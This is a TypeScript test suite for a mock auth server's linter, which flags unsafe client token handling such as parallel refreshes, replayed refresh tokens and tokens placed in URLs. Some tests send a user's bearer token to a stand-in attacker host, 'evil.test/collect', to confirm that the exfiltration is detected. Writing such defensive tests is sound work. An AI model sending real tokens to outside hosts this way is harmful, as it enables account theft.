// The linter for clients: each rule has a client that breaks it, and one that is close and breaks nothing.
import { createMockAuthServer, MockViolationError } from 'everbearer/mock'
import { createHandlers } from 'everbearer/mock/msw'
import { getResponse } from 'msw'
import { describe, expect, it } from 'vitest'
import {
  base,
  claimsOf,
  createClockedServer,
  json,
  overWire,
  type Visitor,
  visit
} from '../../support/worlds/one-cookie-browser.ts'

type Server = ReturnType<typeof createClockedServer>['server']

interface Scene {
  readonly server: Server
  readonly ada: Visitor
  readonly token: string
  /** Lets time pass for everybody. */
  pass(seconds: number): void
}

async function arrange(): Promise<Scene> {
  const { server, clock } = createClockedServer({
    refreshGraceSeconds: 10,
    refreshIdleSeconds: 86_400
  })
  const ada = visit(overWire(server))
  const { token } = await ada.login()
  return { server, ada, token, pass: clock.advanceSeconds }
}

const rules = ({ server }: Scene) => server.violations.map(({ rule }) => rule)
const repeat = async (times: number, act: () => Promise<unknown>): Promise<void> => {
  for (let time = 0; time < times; time += 1) await act()
}
const post = (scene: Scene, path: string, extra: object = {}) =>
  scene.server.handle({ method: 'POST', url: base + path, headers: [json], body: '{}', ...extra })

type Story = readonly [name: string, act: (scene: Scene) => Promise<unknown>]

const stories: Readonly<Record<string, { bad: readonly Story[]; good: readonly Story[] }>> = {
  'parallel-refresh': {
    bad: [
      ['two refreshes at once', ({ ada }) => Promise.all([ada.refresh(), ada.refresh()])],
      [
        'two that name different attempts',
        ({ ada }) => Promise.all([ada.refresh('one'), ada.refresh('two')])
      ],
      [
        'a second one while the first is held',
        async ({ server, ada }) => {
          const gate = server.hold('refresh')
          const both = [ada.refresh(), ada.refresh()]
          await gate.arrived(2)
          gate.release()
          await Promise.all(both)
        }
      ]
    ],
    good: [
      [
        'one after the other',
        async ({ ada }) => {
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'one attempt made twice',
        ({ ada }) => Promise.all([ada.refresh('same'), ada.refresh('same')])
      ],
      [
        'two users at once',
        async ({ server, ada }) => {
          const other = visit(overWire(server))
          await other.login()
          await Promise.all([ada.refresh(), other.refresh()])
        }
      ],
      [
        'another try while the first hangs',
        async ({ server, ada, pass }) => {
          const abort = new AbortController()
          server.failNext('refresh', 'hang', { after: 'commit' })
          const cookie = `refresh_token=${ada.cookie}`
          const hanging = server.handle({
            method: 'POST',
            url: `${base}/refresh`,
            headers: [json, ['Cookie', cookie]],
            signal: abort.signal
          })
          await server.idle()
          pass(5)
          await ada.refresh()
          abort.abort()
          await hanging
        }
      ]
    ]
  },
  'spent-refresh-token': {
    bad: [
      [
        'the predecessor within the grace',
        async ({ ada }) => {
          const spent = ada.cookie
          await ada.refresh()
          ada.cookie = spent
          await ada.refresh()
        }
      ],
      [
        'the predecessor after the grace',
        async ({ ada, pass }) => {
          const spent = ada.cookie
          await ada.refresh('one')
          pass(20)
          ada.cookie = spent
          await ada.refresh('two')
        }
      ]
    ],
    good: [
      [
        'the predecessor, when the answer was lost',
        async ({ server, ada }) => {
          server.failNext('refresh', 'network', { after: 'commit' })
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'the predecessor, when the answer was lost long ago',
        async ({ server, ada, pass }) => {
          server.failNext('refresh', 'network', { after: 'commit' })
          await ada.refresh()
          pass(20)
          await ada.refresh()
        }
      ],
      [
        'the predecessor, when the answer was replaced after the commit',
        async ({ server, ada }) => {
          server.failNext('refresh', 503, { after: 'commit' })
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'the same attempt again, as after a page that died',
        async ({ ada }) => {
          const spent = ada.cookie
          await ada.refresh('attempt')
          ada.cookie = spent
          await ada.refresh('attempt')
        }
      ]
    ]
  },
  'refresh-without-credentials': {
    bad: [
      [
        'a refresh that leaves the cookie at home',
        async ({ ada }) => {
          ada.cookie = undefined
          await ada.refresh()
        }
      ],
      [
        'another browser on the same origin, which cannot be told from the first',
        ({ server }) => visit(overWire(server)).refresh()
      ],
      ['credentials: omit', (scene) => post(scene, '/refresh', { credentials: 'omit' })],
      [
        'credentials: same-origin, from another origin',
        (scene) =>
          post(scene, '/refresh', {
            credentials: 'same-origin',
            headers: [json, ['Origin', 'http://localhost:3000']]
          })
      ]
    ],
    good: [
      [
        'after a logout',
        async ({ ada }) => {
          await ada.logout()
          await ada.refresh()
        }
      ],
      [
        'after the end of the session, when the cookie is gone',
        async ({ ada, pass }) => {
          pass(604_800)
          ada.cookie = undefined
          await ada.refresh()
        }
      ],
      [
        'after a session that was idle for too long, when the answer took the cookie',
        async ({ ada, pass }) => {
          pass(86_400)
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'after a sign-in whose answer was replaced after the commit',
        async ({ server }) => {
          const other = visit(overWire(server, 'http://localhost:4001'))
          server.failNext('login', 503, { after: 'commit' })
          await other.login()
          await other.refresh()
        }
      ],
      [
        'a visitor on another origin, who never signed in',
        (scene) => post(scene, '/refresh', { headers: [json, ['Origin', 'http://localhost:3000']] })
      ]
    ]
  },
  'retry-storm': {
    bad: [
      [
        'six failed refreshes at once',
        async ({ server, ada }) => {
          server.failNext('refresh', 503, { times: 6 })
          await repeat(6, () => ada.refresh())
        }
      ],
      [
        'four renewed tokens in a row, each refused',
        async ({ server, ada }) => {
          await repeat(4, async () => {
            const { token } = await ada.refresh()
            server.failNext('api', 401, { after: 'commit' })
            await ada.me(token)
          })
        }
      ]
    ],
    good: [
      [
        'six failed refreshes over a minute',
        async ({ server, ada, pass }) => {
          server.failNext('refresh', 503, { times: 6 })
          await repeat(6, async () => {
            await ada.refresh()
            pass(10)
          })
        }
      ],
      [
        'twenty page loads of a visitor',
        async ({ server }) => {
          await repeat(20, () => visit(overWire(server, 'http://localhost:4001')).refresh())
        }
      ],
      [
        'page loads that each show a cookie of before a reset',
        async ({ server, ada: { cookie } }) => {
          server.reset()
          await repeat(20, async () => {
            const page = visit(overWire(server))
            page.cookie = cookie
            await page.refresh()
          })
        }
      ],
      [
        'many renewals that work',
        async ({ ada }) => {
          await repeat(20, async () => ada.me((await ada.refresh()).token))
        }
      ]
    ]
  },
  'use-after-logout': {
    bad: [
      [
        'a refresh with the cookie of before',
        async ({ ada }) => {
          const { cookie } = ada
          await ada.logout()
          ada.cookie = cookie
          await ada.refresh()
        }
      ],
      [
        'an access token, much later',
        async ({ ada, token, pass }) => {
          await ada.logout()
          pass(6)
          await ada.me(token)
        }
      ]
    ],
    good: [
      [
        'a call that was on its way',
        async ({ ada, token, pass }) => {
          await ada.logout()
          pass(4)
          await ada.me(token)
        }
      ],
      [
        'a client that never got the answer to its logout',
        async ({ server, ada, token, pass }) => {
          const { cookie } = ada
          server.failNext('logout', 'network', { after: 'commit' })
          await ada.logout()
          ada.cookie = cookie
          await ada.refresh()
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'the next session',
        async ({ ada, pass }) => {
          await ada.logout()
          pass(60)
          const { token } = await ada.login()
          await ada.me(token)
          await ada.refresh()
        }
      ]
    ]
  },
  'stale-access-token': {
    bad: [
      [
        'the old token, long after the new one was delivered',
        async ({ ada, token, pass }) => {
          await ada.refresh()
          pass(6)
          await ada.me(token)
        }
      ],
      [
        'a token that was made to order, long after a new one was delivered',
        async ({ server, ada, token, pass }) => {
          const made = await server.mint({ sid: claimsOf(token).sid ?? '' })
          await ada.refresh()
          pass(6)
          await ada.me(made)
        }
      ],
      [
        'a token of a sign-in without a request, long after a new one was delivered',
        async ({ server, ada, pass }) => {
          const { accessToken, refreshToken } = await server.signIn()
          ada.cookie = refreshToken
          await ada.refresh()
          pass(6)
          await ada.me(accessToken)
        }
      ]
    ],
    good: [
      [
        'calls that were on their way',
        async ({ ada, token, pass }) => {
          await ada.refresh()
          pass(5)
          await repeat(200, () => ada.me(token))
        }
      ],
      [
        'the old token, when the new one was lost',
        async ({ server, ada, token, pass }) => {
          server.failNext('refresh', 'network', { after: 'commit' })
          await ada.refresh()
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'two tokens that were asked for at once',
        async ({ ada, pass }) => {
          const [one, two] = await Promise.all([ada.refresh('a'), ada.refresh('a')])
          pass(60)
          await ada.me(one.token)
          await ada.me(two.token)
        }
      ],
      [
        'the old token, when something else was answered in place of the new one',
        async ({ server, ada, token, pass }) => {
          server.failNext('refresh', 503, { after: 'commit' })
          await ada.refresh()
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'a token that was made to order after the new one was delivered',
        async ({ server, ada, token, pass }) => {
          await ada.refresh()
          pass(60)
          await ada.me(await server.mint({ sid: claimsOf(token).sid ?? '' }))
        }
      ],
      [
        'a forged token, whenever it was made',
        async ({ server, ada, token, pass }) => {
          const sid = claimsOf(token).sid ?? ''
          const early = await server.mint({ sid, forgery: 'expired' })
          await ada.refresh()
          pass(60)
          await ada.me(early)
          await ada.me(await server.mint({ sid, forgery: 'expired' }))
        }
      ]
    ]
  },
  'ignored-reissue': {
    bad: [
      [
        'the token of the old key, long after the re-issue',
        async ({ server, ada, token, pass }) => {
          server.rotateKey()
          await ada.me(token)
          pass(6)
          await ada.me(token)
        }
      ]
    ],
    good: [
      [
        'the new token from then on',
        async ({ server, ada, token, pass }) => {
          server.rotateKey()
          const answer = await ada.me(token)
          pass(60)
          await ada.me(answer.header('authorization')?.slice(7))
        }
      ],
      [
        'the token of the old key, when something else was answered in place of the re-issue',
        async ({ server, ada, token, pass }) => {
          server.rotateKey()
          server.failNext('api', 500, { after: 'commit' })
          await ada.me(token)
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'a burst with the old one',
        async ({ server, ada, token }) => {
          server.rotateKey()
          await Promise.all(Array.from({ length: 200 }, () => ada.me(token)))
        }
      ]
    ]
  },
  'bearer-to-foreign-origin': {
    bad: [
      [
        'a call to somebody else, seen by msw',
        ({ server, token }) => pass(server, 'https://evil.test/collect', token)
      ],
      [
        'the same, with a token of a key that was retired',
        async ({ server, token }) => {
          server.rotateKey()
          server.retireKey()
          await pass(server, 'https://evil.test/collect', token)
        }
      ]
    ],
    good: [
      [
        'a call to another server that the network mocks, with a token of that server',
        async ({ server }) => {
          const other = createMockAuthServer()
          const { accessToken } = await other.signIn()
          await pass(server, 'https://other.test/me', accessToken)
        }
      ],
      [
        'a call to somebody else with a token of theirs',
        ({ server }) => pass(server, 'https://other.test/', 'opaque')
      ],
      [
        'a call to another origin that the guard serves',
        async ({ server, token }) => {
          const url = 'https://api.test/todos'
          await pass(server, url, token)
          await server.guard(
            { method: 'GET', url, headers: [['Authorization', `Bearer ${token}`]] },
            () => ({ status: 200, headers: [], setCookies: [], body: '' })
          )
        }
      ]
    ]
  },
  'token-in-url': {
    bad: [
      [
        'in the query',
        ({ server, token }) =>
          server.handle({ method: 'GET', url: `${base}/me?access_token=${token}`, headers: [] })
      ],
      [
        'in the path',
        ({ server, token }) =>
          server.handle({ method: 'GET', url: `${base}/files/${token}`, headers: [] })
      ],
      [
        'at a handler that no guard stands before, seen by msw',
        ({ server, token }) => look(server, `${base}/events?access_token=${token}`)
      ],
      [
        'in the fetch of a page behind the guard, seen by msw as well',
        ({ server, token }) => look(server, `${base}/me?access_token=${token}`)
      ]
    ],
    good: [
      [
        'a key for the maps of somebody else',
        ({ server }) => look(server, 'https://maps.test/?access_token=pk.eyJ1IjoibWFwcyJ9.c2lnbg')
      ],
      [
        'a parameter that is none',
        ({ server }) =>
          server.handle({ method: 'GET', url: `${base}/me?page_token=7&code=1`, headers: [] })
      ]
    ]
  },
  'reissue-hidden': {
    bad: [],
    good: [
      [
        'a re-issue to a page on another origin, exposed',
        async ({ server, token }) => {
          server.rotateKey()
          await server.handle({
            method: 'GET',
            url: `${base}/me`,
            headers: [
              ['Origin', 'http://localhost:3000'],
              ['Authorization', `Bearer ${token}`]
            ]
          })
        }
      ]
    ]
  },
  'cors-blocked': {
    bad: [
      [
        'a preflight that fails',
        ({ server }) =>
          server.handle({
            method: 'OPTIONS',
            url: `${base}/me`,
            headers: [
              ['Origin', 'https://evil.test'],
              ['Access-Control-Request-Method', 'GET']
            ]
          })
      ]
    ],
    good: [
      [
        'a preflight that passes',
        ({ server }) =>
          server.handle({
            method: 'OPTIONS',
            url: `${base}/me`,
            headers: [
              ['Origin', 'http://localhost:3000'],
              ['Access-Control-Request-Method', 'GET']
            ]
          })
      ]
    ]
  }
}

function pass(server: Server, url: string, token: string) {
  return look(server, url, { authorization: `Bearer ${token}` })
}

function look(server: Server, url: string, headers: Record<string, string> = {}) {
  const handlers = createHandlers(server, { baseURL: base })
  return getResponse(handlers, new Request(url, { headers }))
}

describe.each(Object.entries(stories))('%s', (rule, { bad, good }) => {
  if (bad.length > 0) {
    it.each(bad)('is broken by %s', async (_name, act) => {
      const scene = await arrange()
      await act(scene)
      expect(rules(scene)).toEqual([rule])
    })
  }
  it.each(good)('is not broken by %s', async (_name, act) => {
    const scene = await arrange()
    await act(scene)
    expect(rules(scene)).toEqual([])
  })
})

describe('assertNoViolations', () => {
  it('says nothing of a good client', async () => {
    const { server, ada } = await arrange()
    await ada.refresh()
    server.assertNoViolations()
  })

  it('names the rule, when it was broken, and by which calls', async () => {
    const { server, ada, token } = await arrange()
    await Promise.all([ada.refresh(), ada.refresh()])
    await server.handle({ method: 'GET', url: `${base}/me?access_token=${token}`, headers: [] })
    const { assertNoViolations } = server

    let thrown: unknown
    try {
      assertNoViolations()
    } catch (error) {
      thrown = error
    }
    expect(thrown).toBeInstanceOf(MockViolationError)
    const { message, violations } = thrown as MockViolationError
    expect(message).toBe(
      [
        'assertNoViolations(): found 2 violations of the client rules',
        '',
        'parallel-refresh at 2030-01-01T00:00:00.000Z: the client had 2 refreshes of one session in flight at once, which a server may treat as token theft',
        '  #1 POST /refresh 200 rotated (user-1)',
        '  #2 POST /refresh 200 replayed (user-1)',
        '',
        'token-in-url at 2030-01-01T00:00:00.000Z: the client put a token into a URL, which histories, logs and Referer headers expose',
        '  #3 GET /me?access_token=… 401 missing_token'
      ].join('\n')
    )
    expect(violations.map(({ rule, calls }) => [rule, calls.map(({ index }) => index)])).toEqual([
      ['parallel-refresh', [1, 2]],
      ['token-in-url', [3]]
    ])
    expect(message).not.toContain(token)
  })

  it('lists a few calls of many', async () => {
    const { server, ada, token, pass: wait } = await arrange()
    await ada.refresh()
    wait(60)
    await repeat(30, () => ada.me(token))
    expect(() => server.assertNoViolations()).toThrow(/and 22 more$/)
  })

  it('lets be what it is told to let be', async () => {
    const { server, ada } = await arrange()
    await Promise.all([ada.refresh(), ada.refresh()])
    server.assertNoViolations({ except: ['parallel-refresh'] })
    expect(() => server.assertNoViolations({ except: ['token-in-url'] })).toThrow(
      /^assertNoViolations\(\): found 1 violation of the client rules\n\nparallel-refresh/
    )
  })

  it('is as strict about the order of calls as it is told to be', async () => {
    const { server, ada, token, pass: wait } = await arrange()
    await ada.refresh()
    wait(1)
    await ada.me(token)
    server.assertNoViolations()
    expect(() => server.assertNoViolations({ inFlightSeconds: 0 })).toThrow(/stale-access-token/)
  })

  it.each([
    ['a renewal', 'stale-access-token', ({ ada }: Scene) => ada.refresh()],
    [
      'a re-issue',
      'ignored-reissue',
      ({ server, ada, token }: Scene) => {
        server.rotateKey()
        return ada.me(token)
      }
    ],
    ['a sign-out', 'use-after-logout', ({ ada }: Scene) => ada.logout()]
  ])(
    'forgives nothing after %s where it is told to, even while no time passes',
    async (_name, rule, act) => {
      const scene = await arrange()
      await act(scene)
      await scene.ada.me(scene.token)
      scene.server.assertNoViolations()
      expect(() => scene.server.assertNoViolations({ inFlightSeconds: 0 })).toThrow(rule)
    }
  )

  it('forgets with a reset', async () => {
    const scene = await arrange()
    await Promise.all([scene.ada.refresh(), scene.ada.refresh()])
    await pass(scene.server, 'https://evil.test/', scene.token)
    expect(rules(scene)).toHaveLength(2)
    scene.server.reset()
    expect(rules(scene)).toEqual([])
  })
})

it('names a token in a URL once, and blacks it out', async () => {
  const { server, token } = await arrange()
  await look(server, `${base}/me?access_token=${token}`)
  await look(server, `${base}/events?access_token=${token}`)
  const [violation] = server.violations
  expect(violation?.calls.map(({ path }) => path)).toEqual([
    '/me?access_token=…',
    '/events?access_token=…'
  ])
})

it('blames a token in a URL of somebody else for both, and blacks it out', async () => {
  const scene = await arrange()
  await look(scene.server, `https://evil.test/${scene.token}`)
  expect(rules(scene).sort()).toEqual(['bearer-to-foreign-origin', 'token-in-url'])
  expect(JSON.stringify(scene.server.violations)).not.toContain(scene.token)
})

it('a request to somebody else stays unhandled: msw’s own check still sees it', async () => {
  const server = createMockAuthServer()
  const { token } = await visit(overWire(server)).login()
  expect(await pass(server, 'https://evil.test/', token)).toBeUndefined()
})
